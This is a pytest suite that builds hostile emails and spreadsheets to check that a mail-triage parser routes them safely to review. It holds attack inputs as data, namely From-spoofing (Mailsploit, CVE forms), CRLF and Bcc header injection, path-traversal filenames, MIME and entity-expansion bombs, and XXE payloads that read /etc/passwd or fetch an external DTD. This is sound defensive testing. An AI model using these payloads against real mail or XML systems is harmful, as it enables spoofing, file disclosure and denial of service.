"""Hostile and malformed inputs for the parser and the spreadsheet checker.

reliability.md section 4, the list "Hostile and malformed inputs" (items 1-39)
and rows S3, H1, H2, H5, H6. Every input is generated here as raw bytes by a
small generator named after its item. For each one, triage must return a
Verdict without raising, within 2 s of CPU, and:

* where nothing better fits, the action is "review" with a reason;
* From: tricks (Mailsploit, display-name spoof, two From fields, the
  CVE-2023-27043 / CVE-2019-16056 forms) are never sender_kind "icegate" and
  always "review" (S3);
* attachment file names are reported without path parts, control characters
  or line breaks (H5);
* hostile .xlsx files are the template error "unreadable" (row 0, column "")
  and no file outside the mail is ever read (H2);
* absurd MIME structures end in review with a reason about the structure.

The last tests check that clean mails still triage correctly afterwards.
"""

from __future__ import annotations

import base64
import io
import json
import re
import signal
import struct
import sys
import time
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from builders import SERVICE_BOOK_TEXT, XLSX, make_mail, make_pdf, make_template, officer_row

from maild.core.model import TemplateError, Verdict

CPU_LIMIT_S = 2.0
WALL_GUARD_S = 20  # a hang becomes a failure instead of a stuck suite

# --------------------------------------------------------------------------- helpers

REVIEW = frozenset({"review"})
# A mail whose only oddity is its form: triaged as usual, or put to review with a reason (H1).
TRIAGED_OR_REVIEW = frozenset({"acknowledge", "review"})
# A non-ICEGATE sender of a password reset lacks icegate_sender: request_missing, or review.
MISSING_OR_REVIEW = frozenset({"request_missing", "review"})
ANY_DECISION = frozenset({"acknowledge", "request_missing", "review"})

OFFICER = "Ravi Kumar <ravi.kumar@icegate.gov.in>"
AR_PASS = ("Authentication-Results: mx.icegate.gov.in; dkim=pass header.d=icegate.gov.in; "
           "spf=pass smtp.mailfrom=icegate.gov.in; dmarc=pass header.from=icegate.gov.in")
RESET_SUBJECT = "Password reset for SSO ID"
RESET_TEXT = ("Sir,\r\n\r\nI have forgotten the password of my SSO ID. Kindly reset it.\r\n\r\n"
              "Name: Ravi Kumar\r\nDesignation: Inspector\r\nSSO ID: RK198807\r\nMobile: 9876543210\r\n\r\n"
              "Regards,\r\nRavi Kumar\r\nInspector\r\n")
RESET_BODY = RESET_TEXT.encode()
SSO_BODY = ("Sir,\n\nKindly create SSO ID for the newly joined officer. Template and service book "
            "attached.\n\nRegards,\nRavi Kumar\nInspector\n")
TEMPLATE_NAME = "SSO_creation_template.xlsx"
PASSWD_MARKERS = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin", "daemon:x:")


def head(*lines: str | bytes) -> bytes:
    return b"".join((ln.encode("utf-8") if isinstance(ln, str) else ln) + b"\r\n" for ln in lines)


def raw_mail(*, sender: str | bytes = OFFICER, subject: str | bytes = RESET_SUBJECT,
             extra: tuple[str | bytes, ...] = (), ctype: str | bytes = "text/plain; charset=utf-8",
             body: bytes = RESET_BODY, auth: str | None = AR_PASS, from_lines: tuple[str | bytes, ...] | None = None,
             cte: str | None = None) -> bytes:
    """A mail written byte by byte; by default a complete password-reset request from an officer."""
    lines: list[str | bytes] = [auth] if auth else []
    lines += list(from_lines) if from_lines is not None else [b"From: " + _b(sender)]
    lines += ["To: Saksham Seva <saksham.seva@icegate.gov.in>", b"Subject: " + _b(subject),
              "Date: Mon, 10 Nov 2025 11:00:00 +0530", "Message-ID: <hostile.1@test.example>",
              "MIME-Version: 1.0", b"Content-Type: " + _b(ctype)]
    if cte:
        lines.append(f"Content-Transfer-Encoding: {cte}")
    lines += list(extra)
    return head(*lines) + b"\r\n" + body


def _b(value: str | bytes) -> bytes:
    return value.encode("utf-8") if isinstance(value, str) else value


def part(headers: tuple[str | bytes, ...], body: bytes) -> bytes:
    return head(*headers) + b"\r\n" + body


def multipart_body(boundary: str, parts: list[bytes], *, close: bool = True, epilogue: bytes = b"") -> bytes:
    sep = b"--" + boundary.encode()
    out = [b"This is a multi-part message in MIME format.\r\n"]
    for p in parts:
        out.append(sep + b"\r\n" + p + (b"" if p.endswith(b"\r\n") else b"\r\n"))
    if close:
        out.append(sep + b"--\r\n")
    return b"".join(out) + epilogue


def reset_part() -> bytes:
    return part(("Content-Type: text/plain; charset=utf-8",), RESET_BODY)


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def file_part(filename_param: str | bytes, data: bytes, ctype: str = "application/pdf") -> bytes:
    return part((f"Content-Type: {ctype}", b"Content-Disposition: attachment; " + _b(filename_param),
                 "Content-Transfer-Encoding: base64"), b64(data))


def mixed(parts: list[bytes], boundary: str = "BOUNDARY-1", **kw: Any) -> bytes:
    return raw_mail(ctype=f'multipart/mixed; boundary="{boundary}"', body=multipart_body(boundary, parts, **kw))


_CACHE: dict[str, bytes] = {}


def cached(key: str, make: Callable[[], bytes]) -> bytes:
    if key not in _CACHE:
        _CACHE[key] = make()
    return _CACHE[key]


def clean_template() -> bytes:
    return cached("template", lambda: make_template([officer_row()]))


def service_book() -> bytes:
    return cached("service_book", lambda: make_pdf(SERVICE_BOOK_TEXT))


def sso_mail(template: bytes, filename: str = TEMPLATE_NAME, ctype: str = XLSX) -> bytes:
    """A complete SSO creation request from an officer, carrying the given workbook."""
    return make_mail(subject="Creation of SSO ID", body=SSO_BODY,
                     attachments=[(filename, template, ctype), ("service_book.pdf", service_book(), "application/pdf")])


def rezip(xlsx: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """The workbook with some parts replaced and others added."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, data in add.items():
            dst.writestr(name, data)
    return out.getvalue()


def _sheet(xlsx: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return z.read("xl/worksheets/sheet1.xml")


def with_cell(xlsx: bytes, ref: str, cell_xml: bytes, doctype: bytes = b"") -> bytes:
    """Replace one cell of sheet1.xml (and optionally put a DOCTYPE in front of the sheet)."""
    sheet = _sheet(xlsx)
    sheet, n = re.subn(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', cell_xml, sheet, count=1)
    assert n == 1, f"cell {ref} not found in the generated sheet"
    return rezip(xlsx, {"xl/worksheets/sheet1.xml": doctype + sheet})


def with_shared_strings(xlsx: bytes, sst: bytes, ref: str = "J2") -> bytes:
    """Add xl/sharedStrings.xml and point one cell at its first string."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        rels = z.read("xl/_rels/workbook.xml.rels")
        types = z.read("[Content_Types].xml")
    rels = rels.replace(b"</Relationships>", b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/'
                        b'2006/relationships/sharedStrings" Target="sharedStrings.xml" Id="rId99" /></Relationships>')
    types = types.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                          b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>')
    sheet = _sheet(xlsx)
    sheet = re.sub(rb'<c r="' + ref.encode() + rb'"[^>]*?>.*?</c>', b'<c r="' + ref.encode() + b'" t="s"><v>0</v></c>',
                   sheet, count=1)
    return rezip(xlsx, {"xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": types,
                        "xl/worksheets/sheet1.xml": sheet}, {"xl/sharedStrings.xml": sst})


LAUGHS_DTD = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                         for i in range(1, 10)) + b"]>")
XXE_DTD = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
SST_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


# --------------------------------------------------------------------------- checks

def check_not_icegate_review(v: Verdict) -> None:
    """S3: an ambiguous or forged From: is never an ICEGATE ID and always goes to a person."""
    assert v.sender_kind != "icegate", f"forged From: taken as an ICEGATE ID ({v.sender!r})"
    assert v.action == "review", f"forged From: not sent to review: {v.action} {v.reasons}"


def check_structure_reason(v: Verdict) -> None:
    assert v.action == "review"
    assert any(re.search(r"MIME|nested|parts|structure|depth", f, re.I) for f in v.review_flags), v.review_flags


def check_unreadable(v: Verdict) -> None:
    """H2: a hostile workbook is the template error 'unreadable' (row 0, column '')."""
    assert TemplateError(0, "", "unreadable") in v.template_errors, (v.template_errors, v.reasons)
    assert any(a.kind == "template" for a in v.attachments), v.attachments
    assert v.action in {"request_missing", "review"}


def check_no_leak(v: Verdict) -> None:
    text = json.dumps(v.as_dict(), ensure_ascii=False)
    for marker in PASSWD_MARKERS:
        assert marker not in text, "content of /etc/passwd leaked into the verdict"


def check_xxe(v: Verdict) -> None:
    check_no_leak(v)
    assert v.action in {"request_missing", "review"}  # the entity never yields a clean template


def check_filename(v: Verdict) -> None:
    """H5: the reported name has no path part, no control character and no line break."""
    assert v.attachments, "the attachment was lost"
    for att in v.attachments:
        name = att.filename
        assert name and len(name) <= 255, name
        assert "/" not in name and "\\" not in name, f"path part in {name!r}"
        assert name not in {".", ".."} and not name.startswith("../"), f"path part in {name!r}"
        assert not any(unicodedata.category(ch) == "Cc" for ch in name), f"control character in {name!r}"
        assert len(name.splitlines()) <= 1, f"line break in {name!r}"


def check_one_attachment(v: Verdict) -> None:
    assert len(v.attachments) >= 1, v.reasons
    check_filename(v)


def expect(**fields: Any) -> Callable[[Verdict], None]:
    def _check(v: Verdict) -> None:
        for key, value in fields.items():
            assert getattr(v, key) == value, f"{key}: {getattr(v, key)!r} != {value!r} ({v.reasons})"
    return _check


def all_of(*checks: Callable[[Verdict], None]) -> Callable[[Verdict], None]:
    def _check(v: Verdict) -> None:
        for c in checks:
            c(v)
    return _check


# --------------------------------------------------------------------------- the generators

@dataclass(frozen=True)
class Case:
    make: Callable[[], bytes]
    actions: frozenset[str]
    check: Callable[[Verdict], None] | None


CASES: list[Any] = []


def hostile(actions: frozenset[str] = REVIEW, check: Callable[[Verdict], None] | None = None):
    def register(fn: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES.append(pytest.param(Case(fn, actions, check), id=fn.__name__))
        return fn
    return register


@hostile(TRIAGED_OR_REVIEW)
def item_01_headers_header() -> bytes:
    return raw_mail(extra=("headers: hello-world", "Headers: hello-world"))


@hostile(TRIAGED_OR_REVIEW, check_one_attachment)
def item_02_cyrillic_rfc2047_filename() -> bytes:
    name = "=?utf-8?b?" + base64.b64encode("Служебная_книжка.pdf".encode()).decode() + "?="
    return mixed([reset_part(), file_part(f'filename="{name}"', service_book())])


@hostile(TRIAGED_OR_REVIEW)
def item_03_backslash_u_in_8bit_body() -> bytes:
    body = RESET_BODY + "Path: C:\\Users\\x\\new\\u00e9 \\u \\x \\N{\r\nक़\r\n".encode()
    return raw_mail(cte="8bit", body=body)


def _uuencode(data: bytes, name: str) -> bytes:
    import binascii
    lines = [f"begin 644 {name}\r\n".encode()]
    for i in range(0, len(data), 45):
        lines.append(binascii.b2a_uu(data[i:i + 45]).replace(b"\n", b"\r\n"))
    return b"".join(lines) + b"`\r\nend\r\n"


def _check_uu(v: Verdict) -> None:
    check_one_attachment(v)
    assert any(a.size == len(service_book()) for a in v.attachments), \
        f"uuencoded attachment not decoded: {[(a.filename, a.size) for a in v.attachments]}"


@hostile(TRIAGED_OR_REVIEW, _check_uu)
def item_04_uuencoded_attachment() -> bytes:
    uu = part(("Content-Type: application/pdf", 'Content-Disposition: attachment; filename="service_book.pdf"',
               "Content-Transfer-Encoding: x-uuencode"), _uuencode(service_book(), "service_book.pdf"))
    return mixed([reset_part(), uu])


FILENAME_FORMS = {
    "dotdot": 'filename="../../x.xlsx"',
    "backslash": 'filename="..\\\\..\\\\windows\\\\x.xlsx"',
    "trailing_dotdot": 'filename="evil/.."',
    "crlf_2047": "filename=\"=?utf-8?q?=2E=2E/=2E=2E/evil=0D=0ABcc=3A_x=40evil.example=0D=0A.pdf?=\"",
    "crlf_2231": "filename*=utf-8''..%2F..%2Fevil%0D%0A.pdf",
    "nul_2231": "filename*=utf-8''service_book.pdf%00.exe",
    "nel_ls_2231": "filename*=utf-8''a%C2%85b%E2%80%A8c.pdf",
    "long_300": 'filename="' + "a" * 300 + '.pdf"',
    "c1_controls": "filename*=utf-8''esc%1B%5B31m%C2%9Bred.pdf",
}


def _make_filename_item(key: str, param: str) -> None:
    def gen() -> bytes:
        return mixed([reset_part(), file_part(param, service_book())])
    gen.__name__ = f"item_05_filename_{key}"
    hostile(TRIAGED_OR_REVIEW, check_filename)(gen)


for _key, _param in FILENAME_FORMS.items():
    _make_filename_item(_key, _param)


def _sender_clean(v: Verdict) -> None:
    for value in (v.sender, v.signature.name, v.subject, v.message_id):
        assert not re.search(r"[\x00-\x1f\x7f]", value), repr(value)


@hostile(MISSING_OR_REVIEW, _sender_clean)
def item_06_encoded_newline_display_name() -> bytes:
    return raw_mail(sender="=?utf-8?q?=0A?= <a@example.com>", auth=None)


@hostile(REVIEW, check_not_icegate_review)
def item_06_encoded_newline_display_name_icegate() -> bytes:
    return raw_mail(sender="=?utf-8?q?=0ABcc=3A_x=40evil.example=0A?= <ravi.kumar@icegate.gov.in>"
                           " =?utf-8?q?=0A?=<x@evil.example>")


def _mailsploit(local: str, tail: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(local.encode()).decode() + "?=" + tail


@hostile(REVIEW, check_not_icegate_review)
def item_07_mailsploit_nul() -> bytes:
    return raw_mail(sender=_mailsploit("ravi.kumar@icegate.gov.in", "=?utf-8?Q?=00?=@evil.example"))


@hostile(REVIEW, check_not_icegate_review)
def item_07_mailsploit_newline_angle() -> bytes:
    return raw_mail(sender=_mailsploit("ravi.kumar@icegate.gov.in", "=?utf-8?Q?=0A=00?= <x@evil.example>"))


@hostile(REVIEW, check_not_icegate_review)
def item_07_mailsploit_whole_address_encoded() -> bytes:
    return raw_mail(sender=_mailsploit("ravi.kumar@icegate.gov.in", ""))


@hostile(REVIEW, check_not_icegate_review)
def item_08_display_name_spoof() -> bytes:
    return raw_mail(sender='"saksham.seva@icegate.gov.in" <x@evil.example>')


@hostile(REVIEW, check_not_icegate_review)
def item_08_display_name_spoof_officer() -> bytes:
    return raw_mail(sender='"ravi.kumar@icegate.gov.in" <ravi.kumar@icegate.gov.in.evil.example>')


@hostile(REVIEW, check_not_icegate_review)
def item_09_two_from_fields() -> bytes:
    return raw_mail(from_lines=("From: Ravi Kumar <ravi.kumar@icegate.gov.in>", "From: Mallory <x@evil.example>"))


@hostile(REVIEW, check_not_icegate_review)
def item_09_two_from_fields_evil_first() -> bytes:
    return raw_mail(from_lines=("From: Mallory <x@evil.example>", "From: Ravi Kumar <ravi.kumar@icegate.gov.in>"))


@hostile(REVIEW, check_not_icegate_review)
def item_09_two_from_fields_folded_case() -> bytes:
    return raw_mail(from_lines=("FROM: x@evil.example", "from:\r\n ravi.kumar@icegate.gov.in"))


@hostile(REVIEW, check_not_icegate_review)
def item_10_cve_2023_27043_comment() -> bytes:
    return raw_mail(sender="alice@icegate.gov.in(<bob@evil.example>")


@hostile(REVIEW, check_not_icegate_review)
def item_10_cve_2019_16056_double_at() -> bytes:
    return raw_mail(sender="a@b@icegate.gov.in")


@hostile(REVIEW, check_not_icegate_review)
def item_10_cve_2019_16056_double_at_display() -> bytes:
    return raw_mail(sender="Alice <a@b@icegate.gov.in>")


@hostile(REVIEW, check_not_icegate_review)
def item_10_two_addresses_in_from() -> bytes:
    return raw_mail(sender="ravi.kumar@icegate.gov.in, x@evil.example")


@hostile(TRIAGED_OR_REVIEW)
def item_11_to_of_colons() -> bytes:
    return raw_mail(extra=("Cc: " + ":" * 20_000,)).replace(
        b"To: Saksham Seva <saksham.seva@icegate.gov.in>", b"To: " + b":" * 20_000)


@hostile(TRIAGED_OR_REVIEW)
def item_12_semicolon_stuffing() -> bytes:
    return raw_mail(ctype="text/plain;" + ";" * 100_000 + " charset=utf-8")


@hostile(TRIAGED_OR_REVIEW, check_one_attachment)
def item_12_semicolon_stuffing_disposition() -> bytes:
    att = part(("Content-Type: application/pdf;" + ";" * 100_000,
                "Content-Disposition: attachment;" + ";" * 100_000 + ' filename="service_book.pdf"',
                "Content-Transfer-Encoding: base64"), b64(service_book()))
    return mixed([reset_part(), att])


@hostile(TRIAGED_OR_REVIEW)
def item_13_cc_of_5000_tiny_addresses() -> bytes:
    return raw_mail(extra=("Cc: " + ",".join(["a@b"] * 5000), "Reply-To: " + ",".join(['"" <x@y>'] * 5000)))


@hostile(TRIAGED_OR_REVIEW)
def item_13_from_comment_and_group_storm() -> bytes:
    return raw_mail(extra=("Cc: " + "(" * 2000 + "x" + ")" * 2000 + ", " + "g:" * 2000 + ";" * 2000,))


@hostile(TRIAGED_OR_REVIEW)
def item_14_unbalanced_quote_in_disposition() -> bytes:
    att = part(("Content-Type: application/pdf; name=\"service", 'Content-Disposition: attachment; filename="ser\\'
                'vice_book.pdf; size=3; x="\\', "Content-Transfer-Encoding: base64"), b64(service_book()))
    return mixed([reset_part(), att])


@hostile(REVIEW, check_structure_reason)
def item_15_ten_thousand_siblings() -> bytes:
    parts = [reset_part()] + [part(("Content-Type: text/plain",), b"x\r\n") for _ in range(10_000)]
    return mixed(parts)


@hostile(REVIEW, check_structure_reason)
def item_15_ten_thousand_sibling_attachments() -> bytes:
    parts = [reset_part()] + [part(("Content-Type: application/octet-stream",
                                    f'Content-Disposition: attachment; filename="f{i}.bin"'), b"x\r\n")
                              for i in range(10_000)]
    return mixed(parts)


@hostile(REVIEW, check_structure_reason)
def item_16_multipart_1000_deep() -> bytes:
    depth = 1000
    opening = b"".join(b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i, i + 1)
                       for i in range(depth))
    inner = b"--b%d\r\nContent-Type: text/plain\r\n\r\ndeep\r\n--b%d--\r\n" % (depth, depth)
    closing = b"".join(b"--b%d--\r\n" % i for i in reversed(range(depth)))
    body = b"--top\r\n" + reset_part() + b"--top\r\nContent-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n" \
        + opening + inner + closing + b"--top--\r\n"
    return raw_mail(ctype='multipart/mixed; boundary="top"', body=body)


@hostile(REVIEW, check_structure_reason)
def item_16_rfc822_5000_deep() -> bytes:
    nested = b"Content-Type: message/rfc822\r\n\r\n" * 5000 + b"Content-Type: text/plain\r\n\r\ndeep\r\n"
    return mixed([reset_part(), nested])


@hostile(TRIAGED_OR_REVIEW)
def item_17_20mb_header_line() -> bytes:
    return raw_mail(extra=(b"X-Spam-Report: " + b"spam " * 4_000_000,))


@hostile(TRIAGED_OR_REVIEW)
def item_17_20mb_subject_line() -> bytes:
    return raw_mail(subject=RESET_SUBJECT + " " + "password " * 2_200_000)


@hostile(TRIAGED_OR_REVIEW)
def item_18_no_blank_line_after_headers() -> bytes:
    return raw_mail().replace(b"charset=utf-8\r\n\r\n", b"charset=utf-8\r\n", 1)


@hostile(TRIAGED_OR_REVIEW, _sender_clean)
def item_19_message_id_folded_with_glued_header() -> bytes:
    return raw_mail().replace(b"Message-ID: <hostile.1@test.example>\r\nMIME-Version: 1.0\r\n",
                              b"Message-ID:\r\n <hostile.1@test.example>MIME-Version: 1.0\r\n")


@hostile(TRIAGED_OR_REVIEW)
def item_20_header_of_exactly_1000_chars() -> bytes:
    name = "X-Long: "
    return raw_mail(extra=(name + "a" * (1000 - len(name)), "X-Long-2: " + "b" * 988))


@hostile(TRIAGED_OR_REVIEW)
def item_21_part_starts_with_non_header() -> bytes:
    broken = b"This is not a header at all\r\nContent-Type: text/plain\r\n\r\n" + RESET_BODY
    return mixed([broken])


@hostile(TRIAGED_OR_REVIEW, check_one_attachment)
def item_22_boundary_prefix_lines() -> bytes:
    text = part(("Content-Type: text/plain; charset=utf-8",), RESET_BODY + b"--B10\r\n--B1 0\r\n--B1--x\r\n")
    return mixed([text, file_part('filename="service_book.pdf"', service_book())], boundary="B1")


@hostile(TRIAGED_OR_REVIEW)
def item_23_missing_final_boundary() -> bytes:
    return mixed([reset_part(), file_part('filename="service_book.pdf"', service_book())], close=False)


@hostile(TRIAGED_OR_REVIEW)
def item_23_part_hidden_in_epilogue() -> bytes:
    hidden = b"--BOUNDARY-1\r\n" + file_part('filename="SSO_creation_template.xlsx"', clean_template(), XLSX)
    return mixed([reset_part()], epilogue=hidden)


def _charset_item(name: str, charset: str, body: bytes) -> None:
    def gen() -> bytes:
        return raw_mail(ctype=f"text/plain; charset={charset}", cte="8bit", body=body)
    gen.__name__ = f"item_24_charset_{name}"
    hostile(TRIAGED_OR_REVIEW, expect(request_type="password_reset"))(gen)


_charset_item("unknown_8bit", '"unknown-8bit"', RESET_BODY + "Thanks — ré\r\n".encode())
_charset_item("windows_874", "windows-874", RESET_BODY + "ขอบคุณ\r\n".encode("cp874"))
_charset_item("latin1_really_cp1252", "iso-8859-1", RESET_BODY + "“Thanks” – €\r\n".encode("cp1252"))
_charset_item("not_a_text_codec", '"base64"', RESET_BODY)
_charset_item("rfc2231_bogus", "*=bogus''x", RESET_BODY)


@hostile(TRIAGED_OR_REVIEW, check_one_attachment)
def item_25_invalid_base64() -> bytes:
    bad = b"JVBERi0xLjQK=!!==\r\nAAA\r\n====\r\nQUJD=RA\r\n"
    att = part(("Content-Type: application/pdf", 'Content-Disposition: attachment; filename="service_book.pdf"',
                "Content-Transfer-Encoding: base64"), bad)
    return mixed([reset_part(), att])


@hostile(TRIAGED_OR_REVIEW, check_one_attachment)
def item_25_rfc2231_missing_segment() -> bytes:
    att = part(("Content-Type: application/pdf",
                "Content-Disposition: attachment;\r\n filename*0*=utf-8''SSO%20creation;\r\n filename*2*=%20book.pdf",
                "Content-Transfer-Encoding: base64"), b64(service_book()))
    return mixed([reset_part(), att])


@hostile(TRIAGED_OR_REVIEW, check_one_attachment)
def item_25_rfc2231_bad_charset_and_percent() -> bytes:
    att = part(("Content-Type: application/pdf",
                "Content-Disposition: attachment; filename*=x-no-such-charset'en'%ZZ%E0%A4.pdf",
                "Content-Transfer-Encoding: base64"), b64(service_book()))
    return mixed([reset_part(), att])


def _split_word(text: str, cut: int) -> str:
    data = text.encode()
    return ("=?utf-8?b?" + base64.b64encode(data[:cut]).decode() + "?=\r\n =?utf-8?b?"
            + base64.b64encode(data[cut:]).decode() + "?=")


@hostile(TRIAGED_OR_REVIEW, _sender_clean)
def item_26_encoded_word_split_in_multibyte() -> bytes:
    return raw_mail(subject=_split_word("Password reset पासवर्ड रीसेट", 17),
                    sender=_split_word("रवि कुमार", 4) + " <ravi.kumar@icegate.gov.in>")


@hostile(TRIAGED_OR_REVIEW, _sender_clean)
def item_27_nul_and_bare_cr_in_headers() -> bytes:
    return raw_mail(subject=b"Password reset\x00 for SSO ID\rBcc: x@evil.example",
                    extra=(b"X-Note: a\x00b\rc", b"Comments: \x00\x00\x00"))


@hostile(REVIEW, check_not_icegate_review)
def item_27_nul_inside_from_address() -> bytes:
    return raw_mail(sender=b"Ravi Kumar <ravi.kumar@icegate.gov.in\x00@evil.example>")


@hostile(REVIEW, check_not_icegate_review)
def item_27_bare_cr_inside_from() -> bytes:
    return raw_mail(sender=b"x@evil.example\rFrom: ravi.kumar@icegate.gov.in")


@hostile(TRIAGED_OR_REVIEW)
def item_27_base64_on_multipart() -> bytes:
    return raw_mail(ctype='multipart/mixed; boundary="B"', cte="base64",
                    body=multipart_body("B", [reset_part()]))


@hostile(TRIAGED_OR_REVIEW)
def item_28_html_unclosed_comment() -> bytes:
    html = "<html><body><div>" + RESET_TEXT.replace("\r\n", "<br>") + "</div><!-- never closed " + "x" * 100_000
    return raw_mail(ctype="text/html; charset=utf-8", body=html.encode())


@hostile(TRIAGED_OR_REVIEW)
def item_28_html_1mb_nested_divs() -> bytes:
    n = 1_000_000 // 11
    html = "<html><body>" + "<div>" * n + RESET_TEXT.replace("\r\n", "<br>") + "</div>" * n
    return raw_mail(ctype="text/html; charset=utf-8", body=html.encode())


def _earlier_reply() -> bytes:
    return head("From: Saksham Seva <saksham.seva@icegate.gov.in>", "To: ravi.kumar@icegate.gov.in",
                "Subject: Re: Password reset for SSO ID [SS-2025-000123]", "Auto-Submitted: auto-replied",
                "Message-ID: <reply.1@icegate.gov.in>", "Content-Type: text/plain") + b"\r\nYour request was received.\r\n"


def _dsn(sender: str) -> bytes:
    parts = [part(("Content-Type: text/plain",), b"Delivery to the following recipient failed permanently.\r\n"),
             part(("Content-Type: message/delivery-status",),
                  b"Reporting-MTA: dns; mx.example\r\n\r\nFinal-Recipient: rfc822; ravi.kumar@icegate.gov.in\r\n"
                  b"Action: failed\r\nStatus: 5.1.1\r\n"),
             part(("Content-Type: message/rfc822",), _earlier_reply())]
    return raw_mail(sender=sender, subject="Delivery Status Notification (Failure)", auth=None,
                    ctype='multipart/report; report-type=delivery-status; boundary="R"',
                    body=multipart_body("R", parts))


@hostile(frozenset({"ignore"}), expect(sender_kind="automated", missing=()))
def item_29_dsn_of_our_reply() -> bytes:
    return _dsn("Mail Delivery Subsystem <mailer-daemon@googlemail.com>")


@hostile(frozenset({"ignore"}), expect(sender_kind="automated", missing=()))
def item_29_dsn_from_a_person_like_address() -> bytes:
    return _dsn("ravi.kumar@icegate.gov.in")


@hostile(frozenset({"acknowledge"}), expect(sender_kind="icegate"))
def item_30_auto_submitted_no_capitalised() -> bytes:
    return raw_mail(extra=("Auto-Submitted: No",))


@hostile(frozenset({"ignore"}), expect(sender_kind="automated"))
def item_30_auto_replied_with_parameters() -> bytes:
    return raw_mail(extra=("Auto-Submitted: auto-replied; owner-email=\"ravi.kumar@icegate.gov.in\"; x=y",))


@hostile(frozenset({"acknowledge"}), expect(sender_kind="icegate"))
def item_30_x_auto_response_suppress_only() -> bytes:
    return raw_mail(extra=("X-Auto-Response-Suppress: DR, RN,OOF",))


def _auth_fails(v: Verdict) -> None:
    assert v.action == "review", (v.action, v.reasons)
    assert any("authentication" in f for f in v.review_flags), v.review_flags


@hostile(REVIEW, _auth_fails)
def item_31_auth_results_comments_and_notdkim() -> bytes:
    ar = ("Authentication-Results: mx.icegate.gov.in; spf=fail (sender claims spf=pass; dkim=pass "
          "header.d=icegate.gov.in) smtp.mailfrom=icegate.gov.in; notdkim=pass header.d=icegate.gov.in; "
          "dkim=fail (dkim=pass) header.d=icegate.gov.in")
    return raw_mail(auth=ar)


@hostile(REVIEW, _auth_fails)
def item_31_auth_results_without_authserv_id() -> bytes:
    ar = ("Authentication-Results: dmarc=fail action=none header.from=icegate.gov.in; "
          "spf=pass smtp.mailfrom=icegate.gov.in; dkim=pass header.d=icegate.gov.in")
    return raw_mail(auth=ar)


@hostile(REVIEW, _auth_fails)
def item_31_forged_pass_below_real_fail() -> bytes:
    real = ("Authentication-Results: mx.icegate.gov.in; dmarc=fail header.from=icegate.gov.in; "
            "spf=fail smtp.mailfrom=icegate.gov.in")
    return raw_mail(auth=real, extra=(AR_PASS,))


def _no_injection(v: Verdict) -> None:
    for value in (v.subject, v.sender, v.message_id):
        assert "\r" not in value and "\n" not in value, repr(value)
    assert v.request_type == "password_reset", v.reasons


@hostile(TRIAGED_OR_REVIEW, _no_injection)
def item_32_subject_header_injection() -> bytes:
    word = base64.b64encode(b"Password reset for SSO ID\r\nBcc: x@evil.example\r\n\r\nbody").decode()
    return raw_mail(subject=f"=?utf-8?b?{word}?= =?utf-8?q?=0D=0ABcc=3A_y=40evil.example?=")


# Items 33-37: hostile workbooks attached, as the template, to an otherwise complete SSO creation mail.

@hostile(frozenset({"request_missing", "review"}), check_unreadable)
def item_33_billion_laughs_shared_strings() -> bytes:
    sst = LAUGHS_DTD + b"<sst " + SST_NS + b' count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    return sso_mail(with_shared_strings(clean_template(), sst))


@hostile(frozenset({"request_missing", "review"}), check_unreadable)
def item_33_billion_laughs_in_sheet() -> bytes:
    cell = b'<c r="J2" t="inlineStr"><is><t>&lol9;</t></is></c>'
    return sso_mail(with_cell(clean_template(), "J2", cell, LAUGHS_DTD.replace(b"lolz", b"worksheet")))


@hostile(frozenset({"request_missing", "review"}), check_xxe)
def item_33_xxe_etc_passwd_shared_strings() -> bytes:
    sst = XXE_DTD.replace(b" r ", b" sst ") + b"<sst " + SST_NS + b' count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    return sso_mail(with_shared_strings(clean_template(), sst, "I2"))


@hostile(frozenset({"request_missing", "review"}), check_xxe)
def item_33_xxe_etc_passwd_in_sheet() -> bytes:
    cell = b'<c r="I2" t="inlineStr"><is><t>&xxe;</t></is></c>'
    return sso_mail(with_cell(clean_template(), "I2", cell, XXE_DTD.replace(b" r ", b" worksheet ")))


@hostile(frozenset({"request_missing", "review"}), check_xxe)
def item_33_xxe_parameter_entity() -> bytes:
    dtd = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext;'
           b'<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/evil.dtd"> %dtd;]>')
    return sso_mail(with_cell(clean_template(), "I2", b'<c r="I2" t="inlineStr"><is><t>x</t></is></c>', dtd))


def _declare_huge(xlsx: bytes, member: str, size: int) -> bytes:
    """Patch the declared uncompressed size of one member (local header and central directory)."""
    data = bytearray(xlsx)
    name = member.encode()
    pos = 0
    while True:
        pos = data.find(name, pos)
        if pos < 0:
            break
        if data[pos - 30:pos - 26] == b"PK\x03\x04":
            struct.pack_into("<I", data, pos - 30 + 22, size)
        elif data[pos - 46:pos - 42] == b"PK\x01\x02":
            struct.pack_into("<I", data, pos - 46 + 24, size)
        pos += len(name)
    return bytes(data)


